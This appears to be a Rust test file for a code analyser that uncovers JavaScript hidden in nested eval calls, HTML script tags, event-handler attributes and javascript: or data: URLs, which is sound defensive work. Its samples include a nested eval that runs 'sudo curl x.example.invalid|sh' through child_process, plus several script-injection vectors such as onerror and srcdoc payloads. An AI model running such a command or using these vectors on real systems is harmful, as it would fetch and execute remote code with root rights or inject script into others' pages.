//! What is read of texts within texts, and where it is told.

use super::*;
use crate::facts::{Content, How, collect};

/// The facts of a text of code.
fn facts(text: &str) -> Facts {
    match collect("index.js", text.as_bytes(), How::ByName).content {
        Content::Module(facts) => *facts,
        _ => Facts::default(),
    }
}

/// The layers around a use, as `api: line`.
fn around(facts: &Facts, api: &str) -> Vec<String> {
    let used = facts.uses.iter().find(|used| used.api == api).expect("a use");
    let layers = facts.layers_around(used.place).into_iter();
    layers
        .map(|(layer, line)| format!("{}:{}: {}", layer.api, line.line, line.text))
        .collect()
}

#[test]
fn each_layer_tells_the_line_that_leads_on() {
    let facts = facts(
        "let a = 1;\neval(`\n\nlet b;\neval(\"require('child_process').exec('sudo curl x.example.invalid|sh')\")`)",
    );
    assert_eq!(
        around(&facts, "shell: curl"),
        [
            "eval:4: eval(\"require('child_process').exec('sudo curl x.example.invalid|sh')\")",
            "eval:1: require('child_process').exec('sudo curl x.example.invalid|sh')",
            "child_process.exec:1: sudo curl x.example.invalid|sh",
        ]
    );
    let used = facts.uses.iter().find(|used| used.api == "shell: curl").expect("a use");
    assert_eq!((used.place.layer, used.place.range.start.line), (3, 1));
    assert!(facts.layers_around(Place::default()).is_empty());
}

#[test]
fn a_place_in_a_layer_keeps_its_function() {
    let facts =
        facts("eval('fetch(1)'); function unused() { fetch(2) } export function f() { eval('exec(fetch(3))'); }");
    let mut functions: Vec<_> = facts
        .uses
        .iter()
        .filter(|used| used.place.layer == 1)
        .map(|used| &*facts.functions[used.place.function as usize].name)
        .collect();
    functions.sort_unstable();
    assert_eq!(functions, ["", "f"]);
}

#[test]
fn long_lines_are_cut_around_the_place() {
    let pad = "é".repeat(400);
    let text = format!("/*{pad}*/fetch('https://a.example.invalid/')/*{pad}*/");
    let (piece, _) = line_around(&text, text.find("fetch").expect("it"));
    assert!(piece.starts_with('…') && piece.ends_with('…') && piece.contains("fetch('https://a.example.invalid/')"));
    assert_eq!(line_around("a\nb c\nd", 4), ("b c".to_owned(), 2));
    assert_eq!(line_around("", 0), (String::new(), 0));
}

#[test]
fn scripts_in_markup() {
    for (text, expected) in [
        ("<p>eval(1)</p>", &[][..]),
        ("<script>a()</script><SCRIPT type=module>b()</SCRIPT>", &["a()", "b()"]),
        ("<script src='x.js'></script>", &[]),
        ("<script type=\"application/ld+json\">{}</script>", &[]),
        ("<scripty>a()</scripty>", &[]),
        ("<img src=x onerror=a()>", &["a()"]),
        ("<b title='1 > 0' onclick=\"a(&quot;b&quot;)\">", &["a(\"b\")"]),
        ("<a href=\"javascript:a(%22b%22)\">", &["a(\"b\")"]),
        ("<a href='https://a.example.invalid/?onerror=x'>", &[]),
        ("<iframe srcdoc=\"<script>a()</script>\">", &["a()"]),
        ("<script>a()", &["a()"]),
        ("<", &[]),
        ("<script", &[]),
    ] {
        assert_eq!(markup::scripts(text), expected, "{text}");
    }
    for unit in ["<", "<a b='", "<script>", "<a o=", "=", "<a onx="] {
        markup::scripts(&unit.repeat(100_000));
    }
}

#[test]
fn code_in_urls() {
    for (url, expected) in [
        ("data:text/javascript,a%28%29", &["a()"][..]),
        ("data:text/javascript;charset=utf-8;base64,YSgp", &["a()"]),
        ("DATA:application/javascript,b", &["b"]),
        ("data:text/html,<script>a()</script>", &["a()"]),
        ("JavaScript:a()", &["a()"]),
        ("data:application/json,{}", &[]),
        ("data:image/svg+xml;base64,YSgp", &[]),
        ("https://a.example.invalid/data:text/javascript,a", &[]),
        ("data:", &[]),
        ("", &[]),
    ] {
        assert_eq!(markup::code_of_url(url), expected, "{url}");
    }
}

#[test]
fn a_text_that_is_run_again_and_again_costs_linear_time() {
    let inner = "f();".repeat(20_000);
    let text = format!("const c = {inner:?};\n{}", "eval(c);".repeat(5_000));
    assert!(facts(&text).layers < 16);
    let nested = format!(
        "const c = 'eval(`{}`)';\n{}",
        "eval(0);".repeat(5_000),
        "eval(c);".repeat(5_000)
    );
    assert!(facts(&nested).layers <= 4096);
}
